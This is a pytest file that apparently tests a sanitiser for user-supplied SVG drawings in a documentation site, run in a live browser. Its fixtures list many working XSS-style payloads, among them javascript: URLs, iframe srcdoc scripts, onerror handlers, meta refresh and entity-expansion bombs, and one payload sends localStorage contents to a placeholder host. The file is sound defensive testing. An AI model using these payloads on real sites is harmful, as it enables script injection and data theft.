"""A reader's drawing is made anew of what drawings have, in each browser.

The pages here have no policy: what stops anything is the list of what a drawing
may have. Each try is seen to arrive where the drawing is taken as it is.
"""

from __future__ import annotations

import time
from html import escape
from typing import Any
from xml.etree import ElementTree

import pytest

from browser.live_page import PATIENCE, LivePage
from browser.served import ROOT, Site
from browser.test_policy import arrived, elsewhere, log, without_policy
from literate.read.book import read_book

__all__ = ["elsewhere", "log", "without_policy"]

SVG = "http://www.w3.org/2000/svg"
HTML = 'xmlns="http://www.w3.org/1999/xhtml"'
LINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'


def frame(script: str) -> str:
    text = escape(f"<script>{script}</script>")
    return f'<iframe {HTML} srcdoc="{text}"/>'


# Inside of <svg>. THERE is an address elsewhere, which notes the name.
ASKS = {
    "frame-asks": frame("new Image().src = 'THERE'"),
    "frame-navigates": frame("top.location = 'THERE'"),
    "frame-tells": frame("top.location = 'THERE?' + localStorage.secret"),
    "frame-sends": frame(
        "const form = top.document.createElement('form');"
        "form.action = 'THERE'; top.document.body.append(form); form.submit()"
    ),
    "frame-in-object": f"<foreignObject>{frame('top.location = `THERE`')}"
    "</foreignObject>",
    "frame-with-prefix": '<h:iframe xmlns:h="http://www.w3.org/1999/xhtml"'
    " src=\"javascript:top.location = 'THERE'\"/>",
    "frame-address": f'<iframe {HTML} src="THERE"/>',
    "frame-in-title": f"<title>{frame('top.location = `THERE`')}</title>",
    "frame-in-formula": '<math xmlns="http://www.w3.org/1998/Math/MathML">'
    f"<mtext>{frame('top.location = `THERE`')}</mtext></math>",
    "javascript": f'<iframe {HTML} src="javascript:top.location=`THERE`"/>',
    "refresh": f'<meta {HTML} http-equiv="refresh" content="0;url=THERE"/>',
    "image": '<image width="9" height="9" href="THERE"/>',
    "image-xlink": f'<image {LINK} width="9" height="9" xlink:href="THERE"/>',
    "image-set": '<image width="9" height="9"><set attributeName="href"'
    ' to="THERE"/></image>',
    "image-animated": '<image width="9" height="9"><animate dur="1s"'
    ' attributeName="href" values="THERE;THERE" fill="freeze"/></image>',
    "style-of-site": "<style>body { background: url('THERE'); }</style>",
    "style-attribute": '<foreignObject width="9" height="9">'
    f'<p {HTML} style="background: url(THERE)">x</p></foreignObject>',
    "style-link": f'<link {HTML} rel="stylesheet" href="THERE"/>',
    "html-image": f'<img {HTML} src="THERE"/>',
    "html-handler": f'<img {HTML} src="x:" onerror="location = \'THERE\'"/>',
    "html-input": f'<input {HTML} type="image" src="THERE"/>',
    "html-video": f'<video {HTML} src="THERE"/>',
    "animation-begins": '<set attributeName="x" to="1" begin="0s"'
    " onbegin=\"location = 'THERE'\"/>",
    "a-link": '<a href="THERE"><rect class="bait" width="9" height="9"/></a>',
    "a-script": "<a href=\"javascript:location = 'THERE'\">"
    '<rect class="bait" width="9" height="9"/></a>',
    "a-animated": '<a><set attributeName="href" to="THERE" begin="0s"/>'
    '<rect class="bait" width="9" height="9"/></a>',
    "a-in-html": f'<a {HTML} href="THERE" class="bait">x</a>',
    "form": f'<form {HTML} action="THERE"><button class="bait">x</button>'
    "</form>",
}
LINE = f"<text>{'long ' * 30}</text>"
# What changes the page itself: a drawing, and a word of the page that is then
# another one.
CHANGES = {
    "the body": (
        "<svg XMLNS><style>body { opacity: 0.5; }</style></svg>",
        "getComputedStyle(document.body).opacity",
    ),
    "a root that covers": (
        '<svg XMLNS style="position: fixed; inset: 0; z-index: 99" '
        'width="9999" height="9999"><rect width="9999" height="9999"/></svg>',
        "document.elementFromPoint(640, 20).closest('.drawing')?.className",
    ),
    "a class of the theme's": (
        '<svg XMLNS class="md-dialog" data-md-state="open"></svg>',
        "[...document.querySelectorAll('article .md-dialog')].length",
    ),
    "a class of the press's": (
        '<svg XMLNS><g class="steps-told now on-path run"/></svg>',
        "document.querySelectorAll('.drawing :is(.steps-told, .run)').length",
    ),
    "a name in the page": (
        '<svg XMLNS><g id="live-too"/></svg>',
        "document.querySelectorAll('[id=live-too]').length",
    ),
    "the base of addresses": (
        f'<svg XMLNS><base {HTML} href="http://a.invalid/"/></svg>',
        "document.querySelectorAll('base').length",
    ),
    "what the keyboard reaches": (
        '<svg XMLNS><g tabindex="0" role="button" aria-label="Solved"/></svg>',
        "document.querySelectorAll('.drawing [tabindex]').length",
    ),
    "a text beside the pointer": (
        f"<svg XMLNS><title>{'long ' * 9_000}</title></svg>",
        "document.querySelector('.drawing title')?.textContent.length > 2000",
    ),
    "a text without end": (
        f"<svg XMLNS><text>{'long ' * 9_000}</text></svg>",
        "document.querySelector('.drawing text')?.textContent.length > 2000",
    ),
    "a text of many parts": (
        f"<svg XMLNS><text>{'<tspan>long </tspan>' * 9_000}</text></svg>",
        "document.querySelector('.drawing text')?.textContent.length > 2000",
    ),
    "texts without end": (
        f"<svg XMLNS>{LINE * 4_000}</svg>",
        "document.querySelector('.drawing').textContent.length > 300_000",
    ),
    "the height of the page": (
        '<svg XMLNS width="10" height="999999"></svg>',
        "document.documentElement.scrollHeight > 200000",
    ),
    "the height by a ratio": (
        '<svg XMLNS class="autograd-graph" viewBox="0 0 1 9999"></svg>',
        "document.documentElement.scrollHeight > 200000",
    ),
    "the width of the page": (
        '<svg XMLNS width="999999" height="10" style="max-width: none"></svg>',
        "document.documentElement.scrollWidth > innerWidth",
    ),
}
# What no browser does anything about, and is left out all the same.
INERT = {
    "script": "<script>location = 'x:'</script>",
    "script elsewhere": '<script href="https://a.invalid/x.js"/>',
    "use": '<use href="https://a.invalid/x.svg#y"/>',
    "base": '<g xml:base="https://a.invalid/"/>',
    "language": '<text xml:lang="xx" xml:space="preserve">x</text>',
    "handlers": "".join(
        f'<g {name}="location = `x:`"/>'
        for name in ("onclick", "onload", "ONLOAD", "onfocusin", "x:onclick")
    ).replace("<g x:", '<g xmlns:x="x" x:'),
    "paints": "".join(
        f'<rect {name}="url(https://a.invalid/x#y)"/>'
        for name in ("fill", "stroke", "filter", "mask", "clip-path", "cursor")
    ),
    "a filter": '<filter><feImage href="https://a.invalid/x"/></filter>',
    "a picture of itself": "<pattern><image href='data:,x'/></pattern>",
    "another svg": "<svg><svg><g/></svg></svg>",
    "an element of none": '<rect xmlns=""/><rect xmlns="x:"/>',
    "an attribute of another": f'<rect {LINK} xlink:x="1" xlink:class="node"/>',
    "data": '<g data-node="1\'] , body [x" data-edge="0" data-md-color="x"/>',
    "numbers": '<rect x="1e9" y="calc(1px)" width="-" height="99999999"/>',
    "text": '<switch><text font-size="900">x</text></switch>',
    "a comment": "<!-- <iframe/> --><![CDATA[<iframe/>]]>",
    "an instruction": "<?xml-stylesheet href='https://a.invalid/x.css'?>",
    "deep": "<g>" * 200 + "</g>" * 200,
    "many": "<g/>" * 30_000,
    "a long path": f'<path d="{"M1 1" * 20_000}"/>',
    "style-import": "<style>@import url('https://a.invalid/');</style>",
    "html-object": f'<object {HTML} data="https://a.invalid/"/>',
    "html-embed": f'<embed {HTML} src="https://a.invalid/"/>',
    "html-focus": f'<input {HTML} autofocus="" onfocus="location = `x:`"/>',
    "words of objects": '<rect __proto__="1" constructor="1" toString="1"/>',
}
# Not drawings at all.
NONE = {
    "html": f"<html {HTML}><body/></html>",
    "an element": "<rect/>",
    "an svg of another": '<svg xmlns="x:"/>',
    "two": "<svg XMLNS/><svg XMLNS/>",
    "nothing": "",
    "cut": "<svg XMLNS><g>",
    "an entity": '<!DOCTYPE svg [<!ENTITY a "b">]><svg XMLNS>&a;</svg>',
    "entities": "<!DOCTYPE svg [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b "
    f"'{'&a;' * 10}'><!ENTITY c '{'&b;' * 10}'>]><svg XMLNS>&c;</svg>",
    "a file": '<!DOCTYPE svg SYSTEM "https://a.invalid/x"><svg XMLNS/>',
}


def drawing(inside: str) -> str:
    return f'<svg xmlns="{SVG}" width="99" height="99">{inside}</svg>'


# Puts a drawing where a reader's goes: guarded, or as it is.
PUT = """(text, guarded) => {
    const taken = new DOMParser().parseFromString(text, "image/svg+xml");
    const drawn = guarded ? drawingOf(text)?.drawing
        : document.importNode(taken.documentElement, true);
    const place = document.querySelector(".drawing");
    place.replaceChildren(...(drawn ? [drawn] : []));
    for (const bait of place.querySelectorAll(".bait"))
        setTimeout(() => bait.dispatchEvent(new MouseEvent(
            "click", {bubbles: true, cancelable: true, view: window})), 300);
    return drawn ? new XMLSerializer().serializeToString(drawn) : "";
}"""


@pytest.fixture
def page(live_page: LivePage, without_policy: str) -> LivePage:
    live_page.resize(1280, 900)
    live_page.goto(without_policy)
    live_page.evaluate("void (localStorage.secret = 'secret')")
    return live_page


def put(page: LivePage, text: str, *, guarded: bool) -> Any:
    return page.evaluate(PUT, text.replace("XMLNS", f'xmlns="{SVG}"'), guarded)


def ask(page: LivePage, name: str, there: str, *, guarded: bool) -> None:
    inside = ASKS[name].replace("THERE", there + name)
    put(page, drawing(inside), guarded=guarded)


def test_no_drawing_asks_for_anything_or_leads_away(
    page: LivePage, elsewhere: str, log: list[str]
) -> None:
    before = page.evaluate("location.href")
    for name in ASKS:
        ask(page, name, elsewhere, guarded=True)
        page.evaluate("new Promise((done) => setTimeout(done, 350))")
    page.evaluate("(at) => void (new Image().src = at)", elsewhere + "end")
    assert arrived(log, {"end"}) == {"end"}
    assert page.evaluate("location.href") == before


@pytest.mark.parametrize("name", ASKS)
def test_without_the_list_it_would(
    page: LivePage, elsewhere: str, log: list[str], name: str
) -> None:
    ask(page, name, elsewhere, guarded=False)
    end = time.monotonic() + PATIENCE
    # A browser may add an address's end, as a form does.
    while not (found := [at.partition("?")[::2] for at in log]):
        assert time.monotonic() < end, "it did not arrive"
        time.sleep(0.05)
    assert found[0][0] == name
    assert name != "frame-tells" or found[0][1] == "secret"


@pytest.mark.parametrize("name", CHANGES)
def test_no_drawing_changes_the_page(page: LivePage, name: str) -> None:
    text, word = CHANGES[name]
    put(page, f'<svg xmlns="{SVG}"/>', guarded=True)
    before = page.evaluate(word)
    put(page, text, guarded=True)
    assert page.evaluate(word) == before
    put(page, text, guarded=False)
    # Its box is a guard of its own.
    page.evaluate(
        "document.querySelector('.drawing')"
        ".setAttribute('style', 'all: unset; display: block')"
    )
    assert page.evaluate(word) != before


ELEMENTS = {
    *("svg", "title", "desc", "g", "rect", "text", "tspan", "path", "circle")
}
ATTRIBUTES = {
    *("class", "d", "x", "y", "width", "height", "rx", "cx", "cy", "r", "role"),
    *("text-anchor", "fill-opacity", "data-node", "data-edge", "viewBox"),
}


def allowed(text: str) -> bool:
    """Whether it is made of a drawing's elements and attributes, and short."""
    root = ElementTree.fromstring(text)
    return (
        {each.tag for each in root.iter()}
        <= {f"{{{SVG}}}{name}" for name in ELEMENTS}
        and {name for each in root.iter() for name in each.attrib} <= ATTRIBUTES
        and not root.findall(f".//{{{SVG}}}svg")
        and len(list(root.iter())) <= 20_001
        and "invalid" not in text
    )


def test_what_is_inert_is_left_out_too(page: LivePage) -> None:
    everything = {**INERT, **ASKS}
    for name, inside in everything.items():
        assert allowed(put(page, drawing(inside), guarded=True)), name
    for text, _ in CHANGES.values():
        assert allowed(put(page, text, guarded=True)), text
    for name, inside in everything.items():
        # A style is the site's own; the others are none of a drawing's.
        if "<style" not in inside and name not in (
            "a comment",
            "an instruction",
        ):
            assert not page.evaluate(
                "(text) => drawingOf(text).isWhole", drawing(inside)
            ), name


def test_what_is_no_drawing_is_none(page: LivePage) -> None:
    for name, text in NONE.items():
        assert put(page, text, guarded=True) == "", name


def test_a_drawing_with_a_prefix_is_one(page: LivePage) -> None:
    text = f'<s:svg xmlns:s="{SVG}"><s:g class="node" data-node="0"/></s:svg>'
    assert put(page, text, guarded=True) == (
        f'<svg xmlns="{SVG}"><g class="node" data-node="0"/></svg>'
    )


def test_every_word_of_the_list_is_one_that_the_book_draws(
    site: Site,
) -> None:
    """What drawings no longer have goes from the list; pages are compared."""
    script = (ROOT / "docs/javascripts/drawing.js").read_text("utf-8")
    drawn = ""
    for page in read_book(ROOT).pages:
        path = site.url_of(page.path).removeprefix(site.url)
        drawn += (site.folder / path / "index.html").read_text("utf-8")
    listed = script.partition("const CLASSES")[2].partition("split")[0]
    words = [word for word in listed.split('"')[1::2] for word in word.split()]
    assert len(words) == 25
    assert [
        word
        for word in words
        if not any(word in c for c in drawn.split('class="')[1:])
    ] == []
